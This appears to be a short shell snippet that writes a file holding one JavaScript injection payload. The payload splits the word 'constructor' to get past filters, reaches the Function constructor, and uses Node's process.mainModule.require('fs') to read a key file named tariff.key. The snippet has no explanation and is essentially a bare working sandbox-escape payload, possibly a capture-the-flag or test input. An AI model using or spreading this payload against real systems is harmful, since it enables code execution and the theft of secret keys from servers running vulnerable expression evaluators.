cat > dues.txt <<'D'
a = max["con" + "structor"]("return process.mainModule.require('fs').readFileSync('tariff.key', 'utf8')")()
D
echo dues.txt
